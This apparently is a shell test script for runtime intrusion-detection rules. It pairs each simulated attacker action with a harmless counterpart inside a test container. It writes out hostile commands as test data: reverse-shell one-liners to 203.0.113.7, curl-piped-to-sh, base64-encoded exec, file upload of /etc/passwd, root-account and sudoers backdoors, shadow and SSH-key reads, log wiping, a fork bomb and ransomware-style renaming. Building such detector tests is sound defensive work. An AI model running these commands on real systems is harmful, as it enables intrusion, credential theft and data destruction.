#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# cases.sh - what the rules look for, done for real, and beside each the harmless neighbour that they must not report.
#
# Runs as the first process of a container that tests/lib/container.bash makes (busybox's shell, /bin/act and
# /bin/kernel_act, programs that are one of these under another name). `act mark NAME` stands before each case: what
# follows in the recording belongs to it. What each case must yield is in rules/cases.tsv.

act=/bin/act
kact=/bin/kernel_act

# Runs a case: its name, then the command. A case that this kernel cannot do is named on stdout.
# Programs are called by their path: busybox's shell would run its own applets instead, without an exec.
try() {
	name=$1
	shift
	$act mark "$name"
	"$@" >/tmp/out 2>&1 </dev/null
	[ $? != 3 ] || echo "cannot: $name"
}
do_sh() { eval "$1"; }		# a line of shell, in this very process

# What cases need and no rule may see: before the first mark.
/bin/ip link set lo up
for a in 169.254.169.254 169.254.170.2 10.96.0.1 203.0.113.7; do
	/bin/ip addr add $a/32 dev lo
done
/bin/mknod /dev/video0 c 1 3		# a stand-in that can be opened: the null device's number
/bin/mknod /dev/sda c 1 3
/bin/mkdir -p /mnt/disk /root/work /run /dev/input /dev/snd
for d in input/event0 snd/pcmC0D0c snd/pcmC0D0p; do
	/bin/mknod /dev/$d c 1 3
done
/bin/cp /bin/kernel_act /root/threads
echo hello >/root/work/hello
echo id >/root/work/linpeas.sh
core=$(/bin/cat /proc/sys/kernel/core_pattern)
/usr/sbin/auditd sleep & guard=$!
/bin/idle sleep & other=$!

# Programs
try reverse-shell $act shell-on-socket /bin/sh -c id
try reverse-shell-not do_sh 'echo id | /bin/sh'
try memory $act run-from-memory
try memory-not $act only-memory $act noop
try miner $act noop -o stratum+tcp://pool.invalid:3333 -u x
try miner-not $act noop -o tcp://pool.invalid:3333
try dropped do_sh '/bin/cp /bin/act /root/tool; /root/tool noop'
try dropped-tmp do_sh '/bin/cp /bin/act /tmp/tool; /tmp/tool noop'
try dropped-dev do_sh '/bin/cp /bin/act /dev/tool; /dev/tool noop'
try dropped-dev-not /opt/tool noop
try dropped-not do_sh '/bin/cp /bin/act /root/copy; /bin/act noop'
try disguised-argv $act run-as '[kworker/0:1]' $act noop
try disguised-hidden /opt/.tool noop
try disguised-not /opt/tool noop
try package /usr/bin/apk noop
try package-nested /usr/bin/dpkg spawn /usr/bin/apk noop
try package-not /usr/bin/service spawn /opt/tool noop
try net-tool /bin/nc 127.0.0.1 1
try net-tool-not /bin/ping -c 1 127.0.0.1
try terminal-shell $act on-terminal /bin/sh -c id
try terminal-shell-not $act on-terminal $act noop
try shell $act spawn /bin/sh -c id
try shell-not do_sh '/bin/sh -c id'

# Files
try preload do_sh 'echo /root/x.so >/etc/ld.so.preload'
try preload-not /bin/cat /etc/ld.so.preload
try shadow /bin/cat /etc/shadow
try shadow-not-passwd /bin/cat /etc/passwd
try shadow-not-chage /usr/bin/chage read /etc/shadow
try ssh-key /bin/cat /root/.ssh/id_ed25519
try ssh-key-not /bin/cat /root/.ssh/id_ed25519.pub
try credentials /bin/cat /root/.aws/credentials
try credentials-not /usr/bin/service read /root/.aws/credentials
try token /bin/cat /run/secrets/kubernetes.io/serviceaccount/token
try token-not /usr/bin/service read /run/secrets/kubernetes.io/serviceaccount/token
try environ /bin/cat /proc/1/environ
try environ-not /bin/cat /proc/1/stat
try account do_sh 'echo intruder:x:0:0::/:/bin/sh >>/etc/passwd'
try account-not /usr/sbin/useradd append /etc/passwd user:x:1001:1001::/:/bin/sh
try authorized-keys do_sh 'echo ssh-ed25519 AAAA >>/root/.ssh/authorized_keys'
try authorized-keys-not do_sh 'echo host >>/root/.ssh/known_hosts'
try cron do_sh '/bin/mkdir -p /etc/cron.d; echo "* * * * * root /root/tool" >/etc/cron.d/refresh'
try cron-not /bin/cat /etc/cron.d/refresh
try startup do_sh 'echo /root/tool >>/root/.profile'
try startup-not /bin/cat /root/.profile
try history-emptied do_sh ': >/root/.bash_history'
try history-linked /bin/ln -sf /dev/null /root/.ash_history
try history-removed /bin/rm /root/.bash_history
try history-not do_sh 'echo ls >>/root/.sh_history'
try log-emptied do_sh ': >/var/log/app.log'
try log-truncated $act truncate /var/log/app.log
try log-removed /bin/rm /var/log/app.log
try log-not do_sh 'echo started >/var/log/new.log; echo stopped >>/var/log/new.log'
try log-not-logrotate /usr/sbin/logrotate truncate /var/log/new.log
try setuid /bin/chmod 4755 /root/tool
try setuid-created $act create-setuid /root/suid
try setuid-not /bin/chmod 755 /root/tool
try hosts do_sh 'echo 203.0.113.7 updates >>/etc/hosts'
try hosts-not /bin/cat /etc/hosts
try bin-write /bin/cp /bin/act /usr/bin/evil
try bin-write-not /bin/cp /bin/act /root/work/fine
try bin-write-not-package /usr/bin/dpkg append /usr/bin/installed x
try bin-altered /bin/mv /usr/bin/evil /usr/bin/ls2
try bin-altered-removed /bin/rm /usr/bin/ls2
try bin-altered-not /bin/mv /root/work/fine /root/work/fine2
try link /bin/ln -s /etc/shadow /tmp/innocent
try link-not /bin/ln -s /etc/passwd /tmp/harmless
try etc do_sh 'echo debug >/etc/app.conf'
try etc-not /bin/cat /etc/app.conf
try etc-not-package /usr/bin/dpkg append /etc/app.conf x
try dev-file do_sh 'echo x >/dev/.hidden'
try dev-file-not do_sh 'echo x >/dev/null; echo x >/dev/shm/note'
try camera /bin/cat /dev/video0
try camera-not-cheese /usr/bin/cheese read /dev/video0
try camera-not /bin/cat /dev/null

# Ways out
try kernel-setting do_sh 'echo "$core" >/proc/sys/kernel/core_pattern'
try kernel-setting-not /bin/cat /proc/sys/kernel/core_pattern
try memory-write $act write-memory
try memory-write-proc $act open-memory
try memory-write-not $act read-memory
try attach $act attach
try attach-not-gdb /usr/bin/gdb attach
try attach-not $act traceme
try module $act load-module /opt/tool
try module-not $act read /opt/tool
try bpf $act load-bpf
try bpf-not $act bpf-map
try runtime-socket $act connect-unix /run/docker.sock
try runtime-socket-not $act connect-unix /run/app.sock
try namespace $act enter-namespace
try namespace-not $act unshare-uts
try user-namespace $act unshare-user
try user-namespace-not $act unshare-uts
try mount /bin/mount -t tmpfs none /mnt/disk
try mount-not /bin/umount /mnt/disk
try chroot /bin/chroot / /bin/act noop
try chroot-not do_sh '(cd /root && /bin/act noop)'
try device /bin/cat /dev/sda
try device-not /bin/cat /dev/null
try device-node /bin/mknod /root/disk b 8 0
try device-node-not /bin/mknod /root/fifo p
try handle $act open-by-handle /dev/shm/note
try handle-not $act name-handle /dev/shm/note
try faults $act faults
try faults-not $act only-memory $act noop
try uring $act uring
try uring-not $act stream-to-pipe
try guard /bin/kill -STOP $guard
try guard-not /bin/kill -9 $other
try guard-killed do_sh '/usr/sbin/auditd kill $guard; wait $guard'
try guard-killed-not do_sh '/bin/idle sleep & /usr/sbin/auditd kill $!; wait $!'

# Network
try stream $act stream-to-socket
try stream-not $act stream-to-pipe
try metadata $act connect 169.254.169.254 8080
try metadata-not $act connect 203.0.113.7 8081
try outbound /usr/bin/sort connect 203.0.113.7 8082
try outbound-dropped /root/tool connect 203.0.113.7 8083
try outbound-not $act connect 203.0.113.7 8084
try outbound-not-local /usr/bin/sort connect 127.0.0.1 8085
try packet $act packet-socket
try packet-not $act connect 127.0.0.1 8086

# Impact
try miner-name /opt/xmrig noop
try miner-name-not /opt/tool noop --algo x
try pool-port /root/tool connect 203.0.113.7 3333
try pool-port-not $act connect 203.0.113.7 3334
try huge-pages $act try-write /proc/sys/vm/nr_hugepages
try huge-pages-msr $act try-write /dev/cpu/0/msr
try huge-pages-not $act try-read /proc/sys/vm/nr_hugepages
try threads /root/threads threads 9
try threads-few-not /root/threads threads 3
try threads-image-not $kact threads 9
try deletion /bin/rm -rf /data
try deletion-find /bin/find /srv/ -delete
try deletion-not do_sh '/bin/mkdir /root/old; /bin/rm -rf /root/old'
try ransom do_sh '/bin/cp /bin/act /root/lock; echo x >/root/a.doc; /root/lock rename /root/a.doc /root/a.doc.LOCKED'
try ransom-not $act rename /root/a.doc.LOCKED /root/a.doc
try ransom-note do_sh 'echo pay >/root/README_TO_DECRYPT.txt'
try ransom-note-not do_sh 'echo hello >/root/README.txt'
try disk-wipe /bin/dd if=/dev/zero of=/dev/mapper/none count=0
try disk-wipe-not /bin/dd if=/dev/zero of=/dev/null count=1
try halt $kact restart
try halt-not $kact kill-child
try kill-everyone $kact kill-all
try kill-everyone-not $kact kill-child
try fork-bomb /bin/sh -c 'exit; b(){ b|b& };b'
try fork-bomb-not /bin/sh -c 'b(){ exit; };b'
try load /opt/stress-ng noop --cpu 8
try load-not /opt/tool noop --cpu 8
try new-password /usr/sbin/chpasswd noop
try new-password-not /usr/bin/chage noop
try hosts-grows /bin/dd if=/dev/zero of=/etc/hosts bs=8192 count=1 conv=notrunc
try hosts-grows-seek $kact seek-far /etc/hosts
try hosts-grows-not /bin/cat /etc/hosts

# Data that leaves
try upload /usr/bin/curl noop -F file=@/etc/passwd http://203.0.113.7/
try upload-not /usr/bin/curl noop http://203.0.113.7/
try archive /bin/tar cf /tmp/x.tar /root/.ssh
try archive-not /bin/tar cf /tmp/x.tar /opt
try raw-socket $kact raw-socket
try raw-socket-not /bin/ping -c 1 127.0.0.1
try chat $act connect 203.0.113.7 6667
try chat-not $act connect 203.0.113.7 8087
try tunnel /opt/chisel noop client
try tunnel-ssh /usr/bin/ssh noop -fNR 8080:localhost:80 host
try tunnel-not /opt/tool noop -R
try relay-file do_sh '/bin/nc -w 1 127.0.0.1 1 </etc/passwd'
try relay-file-not do_sh '/bin/cat </etc/passwd'

# To the next machine
try control-port $act connect 203.0.113.7 2375
try control-port-not $act connect 203.0.113.7 8088
try ssh-client /usr/bin/ssh noop host
try ssh-client-not /usr/bin/service noop host
try ssh-server /usr/sbin/sshd noop
try ssh-server-not /usr/sbin/auditd noop
try ssh-agent do_sh '/bin/mkdir -p /tmp/ssh-XXXX; /bin/act connect-unix /tmp/ssh-XXXX/agent.12'
try ssh-agent-not /usr/bin/ssh-add connect-unix /tmp/ssh-XXXX/agent.12
try container-client /usr/bin/kubectl noop get pods
try container-client-not /usr/bin/service noop get pods
try break-in-tool /opt/peirates noop
try break-in-tool-script /bin/sh /root/work/linpeas.sh
try break-in-tool-not /opt/tool noop
try guesser /opt/john noop /etc/shadow
try guesser-not /opt/tool noop /etc/shadow
try listens /root/threads listen 4242
try listens-not $kact listen 4243

# Looking around
try metadata-other $act connect 169.254.170.2 80
try cluster-api /usr/bin/curl connect 203.0.113.7 6443
try cluster-api-service /usr/bin/curl connect 10.96.0.1 443
try cluster-api-not $act connect 203.0.113.7 6443
try discovery /usr/sbin/nginx spawn /bin/id
try discovery-not $act spawn /bin/id
try setuid-search /bin/find /opt -perm -4000
try setuid-search-not /bin/find /opt -perm 755
try walls /bin/cat /proc/1/cgroup
try walls-not /usr/bin/service read /proc/1/cgroup
try kernel-log $kact kernel-log 3
try kernel-log-not $kact kernel-log 9
try symbols $act read /proc/kallsyms
try symbols-not $act read /proc/version

# Keys and passwords
try shadow-renamed do_sh '/bin/cp /bin/act /root/chage; /root/chage read /etc/shadow'
try shadow-by-link do_sh '/bin/cat /tmp/innocent'
try shadow-by-root do_sh '/bin/cat /proc/self/root/etc/shadow'
try host-key $act read /etc/ssh/ssh_host_rsa_key
try cluster-key $act read /etc/kubernetes/admin.conf
try cluster-key-not $act read /etc/kubernetes/version
try private-key /bin/cat /etc/ssl/private/server.key
try private-key-not /usr/sbin/nginx read /etc/ssl/private/server.key
try ticket /bin/cat /etc/krb5.keytab
try ticket-not /usr/bin/service read /etc/krb5.keytab
try credentials-added /root/tool read /root/.aws/credentials
try token-added /root/tool read /run/secrets/kubernetes.io/serviceaccount/token
try secret /bin/cat /run/secrets/db-password
try secret-not /usr/bin/service read /run/secrets/db-password
try memory-read $act read-memory
try memory-read-not /usr/bin/gdb read-memory
try search /bin/grep -r password /root/work
try search-find /bin/find /root -name id_rsa
try search-not /bin/grep -r hello /root/work
try database-files /bin/cat /var/lib/mysql/users.ibd
try database-files-not /usr/sbin/mysqld read /var/lib/mysql/users.ibd
try keyboard $act read /dev/input/event0
try keyboard-not $act read /dev/null
try fake-input $kact fake-input
try fake-input-not $kact kernel-log 9
try microphone $act read /dev/snd/pcmC0D0c
try microphone-not $act read /dev/snd/pcmC0D0p
try packet-ring-not $kact raw-socket
try keyring $kact use-keyring
try keyring-not $kact hold-process

# Not being seen
try memory-named $act run-from-memory runc_cloned
try removed-run do_sh '/bin/cp /bin/act /root/gone; /bin/kernel_act run-removed /root/gone'
try removed-run-not do_sh '/bin/cp /bin/act /root/gone; /bin/rm /root/gone; /bin/act noop'
try false-name $kact take-name kworker/2:1
try false-name-not $kact take-name worker
try hidden-process /bin/mount --bind /root/work /proc/1
try hidden-process-not do_sh '/bin/umount /proc/1'
try remove-self do_sh '/bin/cp /bin/kernel_act /root/once; /root/once remove-self'
try remove-self-rename do_sh '/bin/cp /bin/act /root/mover; /root/mover rename /root/mover /root/moved'
try remove-self-not do_sh '/bin/cp /bin/act /root/other; /bin/rm /root/other'
try ring-file /root/threads ring-open /etc/passwd r
try ring-socket /root/threads ring-connect 203.0.113.7 8089
try ring-file-not /usr/bin/ring ring-open /etc/passwd r
try ring-shadow /usr/bin/ring ring-open /etc/shadow r
try history-off do_sh 'HISTFILE=/dev/null /bin/sh -c id'
try history-off-line /bin/sh -c 'unset HISTFILE; id'
try history-off-not do_sh 'HISTFILE=/root/.sh_history /bin/sh -c id'
try log-renamed do_sh 'echo x >/var/log/b.log; /bin/mv /var/log/b.log /tmp/b'
try log-renamed-not do_sh 'echo x >/var/log/b.log; /bin/mv /var/log/b.log /var/log/b.log.1'
try log-by-ring /usr/bin/ring ring-remove /var/log/b.log.1
try log-named do_sh '/bin/cp /bin/act /root/logrotate; echo x >/var/log/c.log; /root/logrotate truncate /var/log/c.log'
try log-relative do_sh 'cd /var/log; /bin/act truncate c.log; cd /'
try kernel-log-cleared $kact kernel-log 5
try kernel-log-cleared-not $kact kernel-log 3
try times $kact forge-times /etc/ssh/sshd_config
try times-fd $kact forge-times-fd /etc/krb5.keytab
try times-not $kact forge-times /opt/note
try clock $kact set-clock
try clock-not $kact kernel-log 9
try hidden-directory $act make-directory /tmp/.x
try hidden-directory-not $act make-directory /tmp/x
try attributes $kact set-attributes /root/work
try attributes-not $kact set-attributes /opt
try executable-tmp do_sh 'echo x >/tmp/plain; /bin/chmod 755 /tmp/plain'
try executable-tmp-not /bin/chmod 644 /tmp/plain
try guard-service /bin/service noop auditd stop
try guard-service-kill /usr/bin/pkill noop -9 falco
try guard-service-not /bin/service noop nginx stop
try audit-off /usr/sbin/auditctl noop -e 0
try audit-off-accounting $kact accounting
try audit-off-trace $act try-write /sys/kernel/tracing/tracing_on
try audit-off-not /usr/sbin/auditctl noop -l
try module-off /usr/sbin/setenforce 0
try module-off-file $act try-write /sys/kernel/security/apparmor/.remove
try module-off-not /usr/sbin/setenforce 1
try firewall /usr/sbin/iptables -F
try firewall-not /usr/sbin/iptables -L
try guard-settings do_sh '/bin/mkdir /etc/audit; echo x >/etc/audit/auditd.conf'
try guard-settings-not /bin/cat /etc/audit/auditd.conf

# More ways out
try runtime-overwritten $act try-write /proc/self/exe
try runtime-overwritten-not $act try-read /proc/self/exe
try descriptor-directory $kact enter-by-descriptor /root
try descriptor-directory-not do_sh 'cd /root; cd /'
try other-root $act read /proc/1/root/etc/passwd
try other-root-not $act read /etc/passwd
try kernel-setting-tried $act try-write /sys/kernel/uevent_helper
try device-rule $act try-write /sys/fs/cgroup/devices/devices.allow
try device-rule-not $act try-read /sys/fs/cgroup/devices/devices.allow
try parameter $act try-write /proc/sys/kernel/randomize_va_space
try parameter-not $act try-read /proc/sys/kernel/randomize_va_space
try take-descriptor $kact take-descriptor
try take-descriptor-not $kact hold-process
try attach-named do_sh '/bin/cp /bin/act /root/gdb; /root/gdb attach'
try next-kernel $kact load-kernel
try next-kernel-not $kact kernel-log 9
try ports $kact take-ports
try ports-not $kact kernel-log 9
try cgroup-mount /bin/mount -t cgroup -o memory none /mnt/disk
try cgroup-mount-not /bin/umount /mnt/disk
try disk-mount /bin/mount -t ext4 /dev/sda /mnt/disk
try disk-mount-not $act try-read /mnt/disk
try disk-tool /bin/losetup noop
try disk-tool-not /bin/df
try probe $kact probe
try probe-not $kact hold-process
try into-pipe $kact into-pipe /etc/passwd
try into-pipe-not $kact into-pipe /opt/tool
try file-capabilities $kact give-capabilities /root/tool
try file-capabilities-not $kact set-other-attribute /root/tool
try setgid /bin/chmod 2755 /root/tool
try pkexec /usr/bin/pkexec
try sudo-uid /usr/bin/sudo noop -u#-1 id
try sudo-uid-not /usr/bin/sudo noop -u root id

# Coming back
try preload-renamed do_sh 'echo x >/root/p; /bin/mv /root/p /etc/ld.so.preload'
try loader do_sh '/bin/mkdir /etc/ld.so.conf.d; echo /root >/etc/ld.so.conf.d/x.conf'
try loader-not /bin/cat /etc/ld.so.conf.d/x.conf
try account-renamed do_sh '/bin/cp /etc/passwd /root/p; /bin/mv /root/p /etc/passwd'
try account-named do_sh '/bin/cp /bin/act /root/useradd; /root/useradd append /etc/passwd x:x:0:0::/:/bin/sh'
try sudoers do_sh '/bin/mkdir /etc/sudoers.d; echo "x ALL=(ALL) ALL" >/etc/sudoers.d/x'
try sudoers-not /usr/sbin/visudo append /etc/sudoers.d/x '#'
try new-account /usr/sbin/useradd noop
try new-account-not /usr/bin/chage noop
try authorized-keys-moved do_sh 'echo k >/root/k; /bin/mv /root/k /root/.ssh/authorized_keys'
try ssh-settings do_sh 'echo PermitRootLogin yes >>/etc/ssh/sshd_config'
try ssh-settings-not /bin/cat /etc/ssh/sshd_config
try login-checks do_sh '/bin/mkdir /etc/pam.d; echo auth sufficient x.so >/etc/pam.d/sshd'
try login-checks-not /bin/cat /etc/pam.d/sshd
try cron-moved do_sh 'echo "* * * * * root x" >/root/job; /bin/mv /root/job /etc/cron.d/job'
try cron-linked /bin/ln -s /root/job /etc/cron.d/job2
try unit do_sh '/bin/mkdir -p /etc/systemd/system; echo x >/etc/systemd/system/x.service'
try unit-linked /bin/ln -s /root/x.service /etc/systemd/system/y.service
try unit-not /bin/cat /etc/systemd/system/x.service
try startup-moved do_sh 'echo x >/root/s; /bin/mv /root/s /root/.bashrc'
try boot do_sh 'echo x >/boot/vmlinuz'
try boot-not /bin/cat /boot/vmlinuz
try udev do_sh '/bin/mkdir -p /etc/udev/rules.d; echo x >/etc/udev/rules.d/99.rules'
try udev-not /bin/cat /etc/udev/rules.d/99.rules
try package-hook do_sh '/bin/mkdir -p /etc/apt/apt.conf.d; echo x >/etc/apt/apt.conf.d/99x'
try package-hook-not /usr/bin/dpkg append /etc/apt/apt.conf.d/99x x
try interpreter-start do_sh '/bin/mkdir -p /usr/lib/python3; echo x >/usr/lib/python3/sitecustomize.py'
try interpreter-start-not /bin/cat /usr/lib/python3/sitecustomize.py
try web-script /usr/sbin/nginx append /var/www/x.php x
try web-script-not /usr/sbin/nginx append /var/www/x.txt x
try static-pod do_sh '/bin/mkdir -p /etc/kubernetes/manifests; echo x >/etc/kubernetes/manifests/x.yaml'
try static-pod-not /bin/cat /etc/kubernetes/manifests/x.yaml
try runtime-settings do_sh '/bin/mkdir -p /etc/docker; echo x >/etc/docker/daemon.json'
try runtime-settings-not /bin/cat /etc/docker/daemon.json
try library do_sh 'echo x >/usr/lib/libx.so.1'
try library-moved do_sh 'echo x >/root/l; /bin/mv /root/l /usr/lib/libx.so.2'
try library-not do_sh 'echo x >/opt/libx.so.1'
try bin-write-moved do_sh '/bin/cp /bin/act /root/evil; /bin/mv /root/evil /usr/bin/evil3'
try bin-by-ring /usr/bin/ring ring-open /usr/bin/evil4 w
try etc-named do_sh '/bin/cp /bin/act /root/systemctl; /root/systemctl append /etc/app.conf x'

# What runs
try network-input $act both-on-socket /opt/tool noop
try network-input-not $act stream-to-pipe
try reverse-shell-renamed $act shell-on-socket /opt/python3 noop
try reverse-line /bin/sh -c 'exit; cat </dev/tcp/203.0.113.7/4444'
try reverse-line-python /opt/python3 noop -c 'import socket,pty;pty.spawn("/bin/sh")'
try reverse-line-fifo /bin/sh -c 'exit; mkfifo /tmp/f; cat /tmp/f | sh | nc 203.0.113.7 4444 >/tmp/f'
try reverse-line-not /opt/python3 noop -c 'import socket'
try relay-shell $act between-pipes /bin/nc -w 1 127.0.0.1 1
try relay-shell-not $act between-pipes /bin/cat /etc/passwd
try terminal-python /opt/python3 on-terminal /bin/sh -c id
try terminal-python-not /opt/python3 spawn /bin/sh -c id
try download-run /bin/sh -c 'exit; curl http://203.0.113.7/x | sh'
try download-run-group $act in-group-of /usr/bin/curl /bin/sh
try download-run-not /bin/sh -c 'exit; curl http://203.0.113.7/x >x'
try encoded /bin/sh -c 'exit; echo aWQK | base64 -d | sh'
try encoded-python /opt/python3 noop -c 'exec(base64.b64decode("aWQK"))'
try encoded-not /bin/sh -c 'exit; echo aWQK | base64 -d >x'
try web-shell /usr/sbin/nginx spawn /bin/sh -c id
try web-shell-not /usr/sbin/nginx spawn /opt/tool noop
try database-program /usr/sbin/mysqld spawn /opt/tool noop
try database-program-not /usr/sbin/mysqld spawn /usr/sbin/mysqld noop
try loader-run /lib/ld-linux-x86-64.so.2 noop /tmp/tool
try loader-run-not /lib/ld-linux-x86-64.so.2 --verify /tmp/tool
try map-code $kact map-code /tmp/tool
try map-code-not $kact map-code /opt/tool
try preloaded do_sh 'LD_PRELOAD=/tmp/x.so /bin/act noop'
try preloaded-not do_sh 'LD_PRELOAD=/usr/lib/libx.so /bin/act noop'
try dropped-python do_sh '/bin/cp /bin/act /root/tool2; /opt/python3 spawn /root/tool2 noop'
try script-tmp do_sh 'echo id >/tmp/s.sh; /bin/sh /tmp/s.sh'
try script-tmp-not do_sh 'echo id >/root/work/s.sh; /bin/sh /root/work/s.sh'
try library-install /usr/bin/pip3 noop install x
try library-install-not /usr/bin/pip3 noop list
try compiler /usr/bin/gcc noop
try compiler-not /opt/tool noop
try download /usr/bin/curl noop http://203.0.113.7/x
try download-not /usr/bin/service noop http://203.0.113.7/x
try entered do_sh ': >/run/enter; until [ -e /run/entered ]; do /bin/sleep 0.1; done'
try entered-not /opt/tool noop
try piped-shell do_sh 'echo : | /bin/sh'
try piped-shell-not do_sh 'echo : | /bin/cat'

# What one application is expected to do (rules/profiles): a program started, a file read, one written, a connection out, one in.
# The same five beside them are of the application's own.
profile() {	# name program read write port-out port-in
	try "$1-program" "$2" spawn /opt/tool noop
	try "$1-program-not" "$2" spawn "$2" noop
	try "$1-read" "$2" read /opt/note
	try "$1-read-not" "$2" read "$3"
	try "$1-write" "$2" append /opt/note x
	try "$1-write-not" "$2" append "$4" x
	try "$1-out" "$2" connect 203.0.113.7 9001
	try "$1-out-not" "$2" connect 203.0.113.7 "$5"
	try "$1-in" "$2" accept 9002
	try "$1-in-not" "$2" accept "$6"
}
profile nginx /usr/sbin/nginx /etc/hosts /var/cache/nginx/note 9000 80
profile apache /usr/sbin/apache2 /etc/hosts /var/cache/apache2/note 9000 80
profile traefik /usr/local/bin/traefik /etc/hosts /data/note 9000 80
profile haproxy /usr/sbin/haproxy /etc/hosts /var/lib/haproxy/note 9000 80
profile redis /usr/bin/redis-server /etc/hosts /data/note 26379 6379
profile postgresql /usr/lib/postgresql/15/bin/postgres /etc/hosts /var/lib/postgresql/note 5432 5432
profile mysql /usr/sbin/mysqld /etc/hosts /var/lib/mysql/note 33061 3306
profile mongodb /usr/bin/mongod /etc/hosts /data/db/note 27019 27017
profile elasticsearch /usr/share/elasticsearch/jdk/bin/java /etc/hosts /usr/share/elasticsearch/data/note 9300 9200
profile etcd /usr/local/bin/etcd /etc/hosts /var/lib/etcd/note 2380 2379
profile consul /bin/consul /etc/hosts /consul/data/note 8502 8300
profile fluentd /opt/fluent/bin/ruby /etc/hosts /var/log/fluent/note 9092 514
profile php-fpm /usr/local/sbin/php-fpm /etc/hosts /var/lib/php/note 9200 9000
profile ceph /usr/bin/ceph-osd /etc/hosts /var/lib/ceph/note 8443 6800
$act mark end
